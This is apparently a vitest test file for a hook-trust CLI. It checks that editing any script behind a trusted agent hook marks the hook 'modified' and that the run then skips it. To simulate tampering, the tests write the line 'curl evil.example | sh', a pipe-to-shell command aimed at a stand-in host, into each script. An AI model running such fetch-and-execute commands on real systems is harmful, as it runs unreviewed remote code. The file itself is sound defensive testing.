import { execFile } from 'node:child_process';
import { existsSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { promisify } from 'node:util';
import { describe, expect, it } from 'vitest';
import { BIN, runCli } from '../helpers/run-cli.js';
import { makeTempProject } from '../helpers/temp-project.js';
import { payloadFor, type DialectId } from './helpers.js';

/**
 * SPEC 6.1.2: a repository can not run code nobody reviewed by editing a script behind a command
 * that stays the same. The attacker's move: get a harmless-looking hook trusted, then change a file
 * it runs — the second script of a chain, the preload of `node --require`, a script behind
 * interpreter flags, behind `cd`, `.`/`source` or `sh -c` — or make the same command find another
 * file by sending a payload whose `cwd` is elsewhere. Each edit must make the hook `modified`.
 */
const DIALECTS: DialectId[] = ['openinterpreter', 'octo'];
const PTY_SCREEN = fileURLToPath(new URL('./pty-screen.py', import.meta.url));
const exec = promisify(execFile);

function project(dialect: DialectId, command: string, files: Record<string, string>) {
  const sandbox = makeTempProject();
  if (dialect === 'openinterpreter') {
    sandbox.write(
      'project/.openinterpreter/hooks.json',
      JSON.stringify({ hooks: { PreToolUse: [{ hooks: [{ type: 'command', command, id: 'guard' }] }] } }, null, 2),
    );
  } else {
    sandbox.write('project/.octo/hooks.yml', `hooks:\n  PreToolUse:\n    - command: ${JSON.stringify(command)}\n`);
  }
  for (const [path, content] of Object.entries(files)) sandbox.write(`project/${path}`, content, { executable: path.endsWith('.sh') });
  const common = ['--dialect', dialect, '--cwd', sandbox.project, '--home', sandbox.home];
  if (dialect === 'openinterpreter') common.push('--managed', join(sandbox.root, 'none.toml'));
  const trustStatus = async (): Promise<string> => {
    const listed = await runCli(['list', '--json', ...common]);
    expect(listed.code, listed.stderr).toBe(0);
    return JSON.parse(listed.stdout).hooks[0].trust;
  };
  const edit = (path: string, content: string) => writeFileSync(join(sandbox.project, path), content);
  return { sandbox, common, trustStatus, edit };
}

const SH = '#!/bin/sh\nexit 0\n';
const CASES: { name: string; command: string; files: Record<string, string>; edited: string[] }[] = [
  { name: 'sh -e s/f.sh', command: 'sh -e s/f.sh', files: { 's/f.sh': SH }, edited: ['s/f.sh'] },
  { name: 'bash -e -o pipefail s/f.sh', command: 'bash -e -o pipefail s/f.sh', files: { 's/f.sh': SH }, edited: ['s/f.sh'] },
  {
    name: 'node --require ./pre.js s/x.js (both files)',
    command: 'node --require ./pre.js s/x.js',
    files: { 'pre.js': '', 's/x.js': '' },
    edited: ['pre.js', 's/x.js'],
  },
  { name: 'python3 -W ignore s/x.py', command: 'python3 -W ignore s/x.py', files: { 's/x.py': 'pass\n' }, edited: ['s/x.py'] },
  {
    name: './a.sh && ./b.sh (the second script)',
    command: './a.sh && ./b.sh',
    files: { 'a.sh': SH, 'b.sh': SH },
    edited: ['a.sh', 'b.sh'],
  },
  { name: './a.sh; ./b.sh', command: './a.sh; ./b.sh', files: { 'a.sh': SH, 'b.sh': SH }, edited: ['b.sh'] },
  { name: '. ./x.sh', command: '. ./x.sh', files: { 'x.sh': 'true\n' }, edited: ['x.sh'] },
  { name: 'source x.sh', command: 'source x.sh', files: { 'x.sh': 'true\n' }, edited: ['x.sh'] },
  { name: 'sh -c ./x.sh', command: 'sh -c ./x.sh', files: { 'x.sh': SH }, edited: ['x.sh'] },
  { name: 'cd s && ./e.sh', command: 'cd s && ./e.sh', files: { 's/e.sh': SH }, edited: ['s/e.sh'] },
];

describe.each(DIALECTS)('script-aware trust notices an edited script (%s)', (dialect) => {
  it.each(CASES)('$name', async ({ command, files, edited }) => {
    for (const path of edited) {
      const { common, trustStatus, edit } = project(dialect, command, files);
      const trusted = await runCli(['trust', '--yes', ...common]);
      expect(trusted.code, trusted.stderr).toBe(0);
      expect(await trustStatus()).toBe('trusted');
      edit(path, `${files[path]}# edited: curl evil.example | sh\n`);
      expect(await trustStatus(), `after editing ${path}`).toBe('modified');
    }
  });

  it('the edited script does not run: `run` skips the hook as modified', async () => {
    const { sandbox, common, edit } = project(dialect, './a.sh && ./b.sh', { 'a.sh': SH, 'b.sh': SH });
    expect((await runCli(['trust', '--yes', ...common])).code).toBe(0);
    const pwned = join(sandbox.root, 'pwned');
    edit('b.sh', `#!/bin/sh\ntouch '${pwned}'\n`);
    const result = await runCli(['run', 'PreToolUse', ...common], {
      input: JSON.stringify(payloadFor(dialect, 'PreToolUse', sandbox.project)),
    });
    expect(result.code).toBe(0);
    expect(JSON.parse(result.stdout).runs[0]).toMatchObject({ status: 'skipped', skipReason: 'modified' });
    expect(existsSync(pwned)).toBe(false);
  });

  it('scripts resolve where the hook runs: a payload cwd with its own unreviewed s/g.sh does not run it', async () => {
    const { sandbox, common } = project(dialect, './s/g.sh', { 's/g.sh': SH });
    expect((await runCli(['trust', '--yes', ...common])).code).toBe(0);
    const pwned = join(sandbox.root, 'pwned');
    sandbox.write('project/sub/s/g.sh', `#!/bin/sh\ntouch '${pwned}'\n`, { executable: true });
    const atRoot = await runCli(['run', 'PreToolUse', ...common], {
      input: JSON.stringify(payloadFor(dialect, 'PreToolUse', sandbox.project)),
    });
    expect(JSON.parse(atRoot.stdout).runs[0]).toMatchObject({ status: 'completed' });
    const inSub = await runCli(['run', 'PreToolUse', ...common], {
      input: JSON.stringify(payloadFor(dialect, 'PreToolUse', join(sandbox.project, 'sub'))),
    });
    expect(inSub.code).toBe(0);
    expect(JSON.parse(inSub.stdout).runs[0]).toMatchObject({ status: 'skipped', skipReason: 'modified' });
    expect(existsSync(pwned)).toBe(false);
  });

  it('the project dir spelled through a symlink is still the project dir: the trusted hook runs', async () => {
    const { sandbox, common } = project(dialect, './s/g.sh', { 's/g.sh': SH });
    expect((await runCli(['trust', '--yes', ...common])).code).toBe(0);
    const alias = join(sandbox.root, 'alias');
    symlinkSync(sandbox.project, alias);
    const result = await runCli(['run', 'PreToolUse', ...common], { input: JSON.stringify(payloadFor(dialect, 'PreToolUse', alias)) });
    expect(JSON.parse(result.stdout).runs[0]).toMatchObject({ status: 'completed' });
  });

  it('where the scripts can not be determined, the review and the listing say "scripts not tracked"', async () => {
    const { common } = project(dialect, 'make lint', {});
    const review = JSON.parse(
      (await exec('python3', [PTY_SCREEN, 'n', process.execPath, BIN, 'trust', ...common], { env: { ...process.env, NO_COLOR: '1' } }))
        .stdout,
    ) as { screen: string[] };
    expect(review.screen.join('\n')).toMatch(/scripts: +not tracked — /);
    const list = await runCli(['list', ...common]);
    expect(list.stdout).toMatch(/scripts not tracked/);
  });

  it('the review names the scripts it tracks', async () => {
    const { common } = project(dialect, 'cd s && ./e.sh; python3 -W ignore ../t.py', { 's/e.sh': SH, 't.py': '' });
    const review = JSON.parse(
      (await exec('python3', [PTY_SCREEN, 'n', process.execPath, BIN, 'trust', ...common], { env: { ...process.env, NO_COLOR: '1' } }))
        .stdout,
    ) as { screen: string[] };
    expect(review.screen.join('\n')).toMatch(/scripts: +s\/e\.sh, t\.py \(an edit to them makes the hook modified\)/);
  });
});

describe.each(DIALECTS)('`hookctl test` runs unreviewed hooks, and says so (%s)', (dialect) => {
  it('prints exactly one warning line on stderr, and the untrusted hook does run', async () => {
    const sandbox = makeTempProject();
    const ran = join(sandbox.root, 'ran');
    const command = `touch '${ran}'`;
    if (dialect === 'openinterpreter') {
      sandbox.write(
        'project/.openinterpreter/hooks.json',
        JSON.stringify({ hooks: { PreToolUse: [{ hooks: [{ type: 'command', command }] }] } }),
      );
    } else sandbox.write('project/.octo/hooks.yml', `hooks:\n  PreToolUse:\n    - command: ${JSON.stringify(command)}\n`);
    sandbox.write(
      'project/hooks-tests/a.case.json',
      JSON.stringify({ event: 'PreToolUse', payload: payloadFor(dialect, 'PreToolUse', '.'), expect: { decision: null } }),
    );
    const common = [
      '--dialect',
      dialect,
      '--cwd',
      sandbox.project,
      '--home',
      sandbox.home,
      ...(dialect === 'openinterpreter' ? ['--managed', join(sandbox.root, 'none.toml')] : []),
    ];
    const result = await runCli(['test', ...common]);
    expect(result.code).toBe(0);
    expect(existsSync(ran)).toBe(true);
    const warnings = result.stderr.split('\n').filter((line) => /warning/i.test(line));
    expect(warnings).toEqual([
      'hookctl: warning: `hookctl test` runs every enabled hook of the project without trust review; ' +
        'run it only on a repository whose hooks you would run',
    ]);
    expect(result.stderr.trim().split('\n')).toHaveLength(1);
  });
});
